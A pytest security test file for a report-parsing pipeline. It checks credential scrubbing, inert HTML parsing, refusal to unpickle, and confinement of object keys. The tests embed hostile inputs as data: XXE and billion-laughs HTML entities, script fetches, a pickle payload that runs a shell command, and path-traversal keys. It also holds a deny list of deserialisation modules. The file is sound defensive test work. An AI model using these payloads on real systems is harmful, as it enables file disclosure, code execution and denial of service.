"""Security: credentials never leak (logs, artifacts, run records, failures, the lake); a report's HTML is never
fetched from or executed; object keys cannot make anything land outside `dest`; nothing untrusted is unpickled."""

from __future__ import annotations

import ast
import io
import json
import os
import random
import subprocess
import sys
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow.parquet as pq
import pytest
from prefect.cache_policies import NO_CACHE

from flows import pipeline
from tasks import lake
from tasks.parse.documents import Document, parse_documents, parse_sidecar
from tasks.storage import S3Settings, Store
from tasks.synth.render import random_record, render_bytes

REPO = Path(__file__).resolve().parents[1]


def a_report(seed: int = 1, layout: str = "pipe") -> bytes:
    rec = random_record(random.Random(seed), year=2023, organ="淮安市人民政府", admin_level="prefectural")
    return render_bytes(rec, layout, rng=seed)


def object_text(store: Store, key: str, data: bytes) -> str:
    """What an object says, readable: Parquet decoded (its pages are compressed), anything else as text."""
    if key.endswith(".parquet"):
        meta = pq.read_schema(io.BytesIO(data)).metadata or {}
        frame = pl.read_parquet(data)
        return json.dumps(frame.to_dicts(), default=str, ensure_ascii=False) + repr(meta)
    return data.decode("utf-8", errors="replace")


# -- credentials --------------------------------------------------------------------------------------------------

def _prefect_records(dest_marker: str) -> str:
    """Everything the Prefect server holds about the flow runs whose parameters mention `dest_marker`: the runs
    (parameters, state messages), their task runs, logs and artifacts, as one text."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import (
        ArtifactFilter,
        ArtifactFilterFlowRunId,
        FlowRunFilter,
        FlowRunFilterId,
        LogFilter,
        LogFilterFlowRunId,
    )

    parts: list[str] = []
    with get_client(sync_client=True) as client:
        runs = [r for r in client.read_flow_runs(limit=200) if dest_marker in json.dumps(r.parameters, default=str)]
        assert runs, "the child's flow runs are on the server"
        ids = [r.id for r in runs]
        for r in runs:
            parts.append(r.model_dump_json())
        for t in client.read_task_runs(flow_run_filter=FlowRunFilter(id=FlowRunFilterId(any_=ids)), limit=200):
            parts.append(t.model_dump_json())
        offset = 0
        while True:
            logs = client.read_logs(LogFilter(flow_run_id=LogFilterFlowRunId(any_=ids)), limit=200, offset=offset)
            parts += [log.model_dump_json() for log in logs]
            if len(logs) < 200:
                break
            offset += 200
        artifacts = client.read_artifacts(artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=ids)))
        assert artifacts, "the run summary artifact was written"
        parts += [a.model_dump_json() for a in artifacts]
    return "\n".join(parts)


@pytest.mark.slow
def test_credentials_never_appear_in_logs_artifacts_failures_or_the_lake(prefect_api, tmp_path):
    """A flow run in a child process, on S3 behind a proxy whose error messages echo the caller's credentials
    (some S3 servers quote the access key back): unreadable objects and a failed batch carry such messages."""
    from tests.faultproxy import FaultProxy
    from tests.servers import moto_s3, server_env, store_for

    key_id = "AKIA" + uuid.uuid4().hex[:16].upper()
    secret = "sEcReT/" + uuid.uuid4().hex + "+x"
    token = "ToKeN" + uuid.uuid4().hex
    with moto_s3(bucket=f"secrets-{uuid.uuid4().hex[:8]}") as info, FaultProxy(info["endpoint_url"], seed=3) as proxy:
        raw = store_for(info, "raw-sec")
        jobs = {f"reports/{i:03d}.txt": a_report(i, ["pipe", "html", "pdf_text"][i % 3]) for i in range(24)}
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(lambda kv: raw.put_bytes(*kv), jobs.items()))
        dest_prefix = f"lake-sec-{uuid.uuid4().hex[:6]}"
        proxy.configure(share=1.0, faults={"500": 1}, methods=["GET", "PUT"],
                        path_regex=r"/raw-sec/reports/00[37]\.txt|/_staging/[^/]+/00001/",
                        error_message=f"denied for {key_id} using {secret} / {token}")
        env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "GOVREPORTS_"))}
        env.update(server_env(dict(info, endpoint_url=proxy.url)))
        env.update(AWS_ACCESS_KEY_ID=key_id, AWS_SECRET_ACCESS_KEY=secret, AWS_SESSION_TOKEN=token,
                   PREFECT_API_URL=prefect_api, GOVREPORTS_S3_MAX_ATTEMPTS="1", GOVREPORTS_BATCH_RETRIES="0",
                   PYTHONUNBUFFERED="1")
        cmd = [sys.executable, "-m", "flows.cli", "run", "--source", f"s3://{info['bucket']}/raw-sec",
               "--dest", f"s3://{info['bucket']}/{dest_prefix}", "--runner", "threads", "--batch-files", "8",
               "--workers", "2"]
        proc = subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, timeout=300, check=False)
        proxy.off()
        output = proc.stdout.decode(errors="replace") + proc.stderr.decode(errors="replace")
        assert proxy.counts["500"] > 0  # the echoing errors were served
        assert proc.returncode != 0 and "partial: 1 of 3 batches failed" in output, output[-3000:]

        dest = store_for(info, dest_prefix)
        objects = dest.list_objects().get_column("key").to_list()
        texts = {k: object_text(dest, k, d) for k, d, _e in dest.read_many(objects)}
        failures = lake.read_failures(dest)
        reasons = failures.get_column("error").to_list()
        assert {"reports/003.txt", "reports/007.txt"} <= set(failures.get_column("source").to_list())
        assert any("denied for ***" in r for r in reasons), reasons  # the message kept, the secrets gone
        assert failures.filter(pl.col("stage") == "batch").height == 8
        prefect_text = _prefect_records(dest_prefix)

    haystacks = {"child output": output, "Prefect runs, logs, artifacts": prefect_text,
                 **{f"lake object {k}": v for k, v in texts.items()}}
    assert any(k.startswith("lake object _runs/") for k in haystacks)
    for what, text in haystacks.items():
        for name, value in (("access key id", key_id), ("secret key", secret), ("session token", token)):
            assert value not in text, f"{name} found in {what}"
            assert value.replace("/", "%2F").replace("+", "%2B") not in text, f"{name} (URL-encoded) in {what}"


def test_store_errors_and_representations_are_scrubbed(monkeypatch):
    settings = S3Settings(endpoint_url="http://127.0.0.1:1", access_key_id="AKIAFAKEKEYID12345",
                          secret_access_key="fake-secret-value-123", region="us-east-1", connect_timeout=0.2,
                          read_timeout=0.2, max_attempts=1)
    store = Store("s3://bucket/prefix", settings=settings)
    for text in (repr(store), str(store), repr(settings), store.url, store.uri("k")):
        assert "fake-secret" not in text and "AKIAFAKE" not in text
    # an error whose text carries the secret (as some servers' messages do) is scrubbed
    assert store._scrub("oops fake-secret-value-123 and AKIAFAKEKEYID12345") == "oops *** and ***"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "env-secret-abcdef")
    assert Store.redact("s3://user:pw@host/x?X-Amz-Signature=abc&X-Amz-Credential=AKID/1 env-secret-abcdef") \
        == "s3://***@host/x?X-Amz-Signature=***&X-Amz-Credential=*** ***"
    with pytest.raises(ValueError, match="not in the URL"):
        Store("s3://AKIA:secret@bucket/x")
    # a run record keeps no credentials even if someone put them in a URL the Store would refuse
    row = pipeline.RunSummary("r1", "nightly", "s3://k:s@bucket/raw", "/lake", started_at=datetime.now(UTC)).row()
    assert "k:s@" not in json.dumps(row, default=str)


# -- report HTML is inert -----------------------------------------------------------------------------------------

class _Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"FETCHED-CONTENT-MARKER")

    def log_message(self, *args: Any) -> None:
        return


def test_report_html_is_never_fetched_from_or_executed(tmp_path):
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    marker = tmp_path / "executed"
    local_secret = tmp_path / "local-file.txt"
    local_secret.write_text("LOCAL-FILE-CONTENT-MARKER")
    try:
        html = a_report(4, "html").decode("utf-8", errors="replace")
        doctype = f"""<!DOCTYPE html SYSTEM "{base}/doctype.dtd" [
<!ENTITY xxe SYSTEM "file://{local_secret}">
<!ENTITY net SYSTEM "{base}/entity">
<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>"""
        head = f"""<meta http-equiv="refresh" content="0; url={base}/refresh">
<base href="{base}/base/">
<link rel="stylesheet" href="{base}/style.css"><style>@import url("{base}/import.css");</style>
<script src="{base}/script.js"></script>
<script>fetch("{base}/fetch"); require("fs").writeFileSync("{marker}", "x");</script>"""
        body = f"""<img src="{base}/img.png" onerror="fetch('{base}/onerror')"><iframe src="{base}/iframe"></iframe>
<object data="{base}/object"></object><video poster="{base}/poster"></video>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{base}/svg.png"/></svg>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{local_secret}" parse="text"/>
<p onclick="fetch('{base}/click')">&xxe; &net; &lol4;</p>"""
        assert html.startswith("<!DOCTYPE html>") and "<head>" in html and "<body>" in html
        hostile = (doctype + html.removeprefix("<!DOCTYPE html>")).replace("<head>", "<head>" + head, 1) \
            .replace("<body>", "<body>" + body, 1).replace("<table", f'<table background="{base}/table-bg"', 1)
        # <embed> is inert too; kept apart because libxml2 nests the rest of the page inside an unclosed <embed>
        # (old Flash players): the reader must still walk into it and read the report
        with_embed = html.replace("<body>", f'<body><embed src="{base}/embed.swf">', 1)
        t0 = time.monotonic()
        batch = parse_documents([Document(source="hostile.html", data=hostile.encode("utf-8")),
                                 Document(source="embed.html", data=with_embed.encode("utf-8"))])
        elapsed = time.monotonic() - t0
        time.sleep(0.3)  # anything fetched asynchronously would have arrived
    finally:
        server.shutdown()
        thread.join(5)
    assert _Recorder.hits == [], f"the parser fetched {_Recorder.hits}"
    assert not marker.exists()
    everything = json.dumps(batch.records, default=str, ensure_ascii=False) + "".join(
        json.dumps(f.to_dicts(), default=str, ensure_ascii=False) for f in batch.frames.values())
    assert "LOCAL-FILE-CONTENT-MARKER" not in everything and "FETCHED-CONTENT-MARKER" not in everything
    assert "lol" * 1000 not in everything  # no entity expansion
    assert elapsed < 30
    for source in ("hostile.html", "embed.html"):
        report = batch.frames["reports"].filter(pl.col("source") == source).row(0, named=True)
        apps = batch.frames["applications"].filter(pl.col("report_id") == report["report_id"])
        assert report["layout"] == "html" and apps.height > 0, source  # still read as the report it is


def test_sidecars_are_json_never_unpickled(tmp_path):
    marker = tmp_path / "pwned"
    # a pickle that would run `touch marker` when loaded
    payload = (b"\x80\x04\x95" + b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR.")
    meta, problem = parse_sidecar(payload)
    assert meta is None and problem
    batch = parse_documents([Document(source="r.txt", data=a_report(2), meta=meta)])
    assert batch.frames["reports"].height == 1
    assert not marker.exists()


def test_no_code_path_deserialises_with_pickle_or_evaluates_code():
    banned_modules = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal", "shelve", "joblib"}
    banned_calls = {"eval", "exec", "compile", "__import__"}
    banned_attrs = {"read_pickle", "unsafe_load", "loads_pickle", "load_pickle"}
    problems: list[str] = []
    for folder in ("flows", "tasks", "schemas"):
        for path in sorted((REPO / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
            for node in ast.walk(tree):
                where = f"{path.relative_to(REPO)}:{getattr(node, 'lineno', 0)}"
                if isinstance(node, ast.Import):
                    problems += [f"{where} imports {a.name}" for a in node.names if a.name.split(".")[0] in banned_modules]
                elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in banned_modules:
                    problems.append(f"{where} imports from {node.module}")
                elif isinstance(node, ast.Call):
                    fn = node.func
                    if isinstance(fn, ast.Name) and fn.id in banned_calls:
                        problems.append(f"{where} calls {fn.id}()")
                    if isinstance(fn, ast.Attribute) and fn.attr in banned_attrs:
                        problems.append(f"{where} calls .{fn.attr}()")
                    if isinstance(fn, ast.Attribute) and fn.attr == "load" and isinstance(fn.value, ast.Name) \
                            and fn.value.id in ("yaml", "np", "numpy", "torch"):
                        problems.append(f"{where} calls {fn.value.id}.load()")
    assert problems == []


def test_batch_tasks_take_and_return_plain_data(tmp_path):
    """What crosses the orchestrator (and, with process or Dask workers, a pickle boundary between our own
    processes) is keys and small summaries: JSON-safe values, never objects made from a report's bytes."""
    src = Store(tmp_path / "src")
    src.put_bytes("a.txt", a_report(1))
    src.put_bytes("b.html", a_report(2, "html"))
    items = [{"key": k, "size": s, "etag": e, "sidecar_key": None, "sidecar_etag": None}
             for k, s, e in src.list_objects().iter_rows()]
    json.dumps(items)
    out = pipeline.process_batch(src.url, str(tmp_path / "lake"), "run-1", "00000", items, pipeline.PipelineSettings())
    assert json.loads(json.dumps(out)) == out
    assert pipeline.parse_batch.persist_result in (None, False)  # no result pickled to disk or object storage
    assert pipeline.parse_batch.cache_policy is NO_CACHE


# -- keys cannot escape dest --------------------------------------------------------------------------------------

EVIL_KEYS = ["../escape.txt", "a/../../up.txt", "/etc/absolute.txt", "a//b.txt", "./dot.txt", "a/./b.txt", "..",
             "a\\..\\b.txt", "nul\x00byte.txt", ""]


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_store_refuses_keys_that_leave_its_root(tmp_path):
    store = Store(tmp_path / "inner" / "root")
    store.put_bytes("ok.txt", b"ok")
    before = _tree(tmp_path)
    for key in EVIL_KEYS:
        for write in (lambda k: store.put_bytes(k, b"x"), lambda k: store.put_if_absent(k, b"x"),
                      lambda k: store.put_if_match(k, b"x", "v")):
            with pytest.raises(ValueError):
                write(key)
    s3 = Store("s3://bucket/lake", settings=S3Settings(endpoint_url="http://127.0.0.1:1"))
    for key in EVIL_KEYS:  # refused before any request is made
        with pytest.raises(ValueError):
            s3.put_bytes(key, b"x")
    # the lake builds its own keys from checked parts only
    for bad in ("../x", "a/b", "", "_SUCCESS", "x\x00"):
        with pytest.raises(ValueError):
            lake.stage_frames(store, bad, "00000", {})
        with pytest.raises(ValueError):
            lake.stage_frames(store, "run", bad, {})
        with pytest.raises(ValueError):
            lake.write_commit_manifest(store, bad, {})
        with pytest.raises(ValueError):
            lake.append_run(store, {"run_id": bad})
        with pytest.raises(ValueError):
            lake.append_failures(store, pl.DataFrame({"source": ["s"], "run_id": [bad], "stage": ["read"],
                                                      "error": ["e"], "recorded_at": [datetime.now(UTC)]}))
    for level in ("../x", "a/b", "county/../../x", ""):
        with pytest.raises(ValueError):
            lake.partition_key("reports", 2024, level)
    with pytest.raises(ValueError):
        lake.stage_frames(store, "run", "00000", {"../frame": pl.DataFrame()})
    assert _tree(tmp_path) == before


def _weird_local_names(root: Path) -> list[str]:
    names = ["..report.txt", "a..b.txt", "...", "%2e%2e%2fup.txt", "a%2F..%2F..%2Fx.txt", "back\\..\\slash.txt",
             "new\nline.txt", " leading space.txt", "报告 (1).html", "-rf.txt"]
    for i, name in enumerate(names):
        (root / "sub").mkdir(parents=True, exist_ok=True)
        (root / "sub" / name).write_bytes(a_report(10 + i, "html" if name.endswith(".html") else "pipe"))
    return [f"sub/{n}" for n in names]


@pytest.mark.slow
def test_a_run_over_hostile_keys_writes_only_inside_dest(prefect_api, tmp_path):
    """A local source with odd file names, an S3 source with keys full of '..', '%2F' and absolute paths: every
    object is accounted for, and nothing is written outside the lake (local) or outside its prefix (S3)."""
    from tests.servers import _s3_client, moto_s3, server_env, store_for

    src = tmp_path / "src"
    weird = _weird_local_names(src)
    (tmp_path / "work").mkdir()
    dest = tmp_path / "work" / "lake"
    before = _tree(tmp_path) - _tree(src)
    s = pipeline.nightly(pipeline.RunSettings(source=str(src), dest=str(dest), runner="threads", batch_files=4, workers=2))
    assert s["status"] == "completed"
    after = _tree(tmp_path) - _tree(src)
    assert {p for p in after - before if not p.startswith("work/lake")} == set()
    objects = pipeline.split_listing(Store(str(src)).list_objects()).get_column("key").to_list()
    # only names starting with '_' or '.x' are control files (a store's _tmp/, the truth file, .DS_Store); odd
    # names such as '...' and '..report.txt' are objects like any other
    assert sorted(set(weird) - set(objects)) == []
    rep = lake.read_table(Store(str(dest)), "reports")
    dups = [k for lst in rep.get_column("duplicate_sources").to_list() if lst for k in lst]
    assert set(rep.get_column("source").to_list()) | set(dups) == set(objects)
    assert rep.height + len(dups) == len(objects)

    evil_s3 = ["raw/../../escape.txt", "raw/a/../../../etc/passwd.txt", "raw/%2e%2e/x.txt", "raw/a%2F..%2F..%2Fx.txt",
               "raw//double.txt", "raw/./dot.txt", "raw/..", "raw/back\\..\\slash.txt", "raw/plain.txt",
               "raw/sp ace/报告.html"]
    with moto_s3(bucket=f"hostile-{uuid.uuid4().hex[:8]}") as info:  # moto's servers share one in-process store
        client = _s3_client(info["endpoint_url"], info["key"], info["secret"])
        for i, key in enumerate(evil_s3):  # boto3 sends keys as they are: S3 allows all of these
            client.put_object(Bucket=info["bucket"], Key=key, Body=a_report(40 + i, "html" if key.endswith("html") else "pipe"))
        client.put_object(Bucket=info["bucket"], Key="outside/untouched.txt", Body=b"x")
        old_env = {k: os.environ.get(k) for k in server_env(info)}
        os.environ.update(server_env(info))
        try:
            source = store_for(info, "raw")
            listed = pipeline.split_listing(source.list_objects()).get_column("key").to_list()
            # '.' and '..' segments are odd keys, not control files: every one is an object to account for
            assert sorted(set(k.removeprefix("raw/") for k in evil_s3) - set(listed)) == []
            local_dest = tmp_path / "work" / "lake-from-s3"
            s1 = pipeline.nightly(pipeline.RunSettings(source=f"s3://{info['bucket']}/raw", dest=str(local_dest),
                                                       runner="threads", batch_files=4, workers=2))
            s2 = pipeline.nightly(pipeline.RunSettings(source=f"s3://{info['bucket']}/raw", dest=f"s3://{info['bucket']}/lake",
                                                       runner="threads", batch_files=4, workers=2))
        finally:
            for k, v in old_env.items():
                if v is None:
                    os.environ.pop(k, None)
                else:
                    os.environ[k] = v
        assert s1["status"] == s2["status"] == "completed"
        bucket_keys = [o["Key"] for page in client.get_paginator("list_objects_v2").paginate(Bucket=info["bucket"])
                       for o in page.get("Contents", [])]
        written = [k for k in bucket_keys if not k.startswith(("raw/", "raw//")) and k not in evil_s3]
        assert "outside/untouched.txt" in written
        written.remove("outside/untouched.txt")
        assert written and all(k.startswith("lake/") for k in written), written
        assert all(Store.check_key(k) for k in written)  # no '..', '.', empty segment or backslash in what we wrote
        for lake_store in (Store(str(local_dest)), store_for(info, "lake")):
            rep = lake.read_table(lake_store, "reports")
            dups = [k for lst in rep.get_column("duplicate_sources").to_list() if lst for k in lst]
            fails = lake.read_failures(lake_store).get_column("source").to_list()
            assert set(rep.get_column("source").to_list()) | set(dups) | set(fails) == set(listed)
            assert rep.height + len(dups) + len(fails) == len(listed)
    after = _tree(tmp_path) - _tree(src)
    assert {p for p in after - before if not p.startswith(("work/lake", "work/lake-from-s3"))} == set()
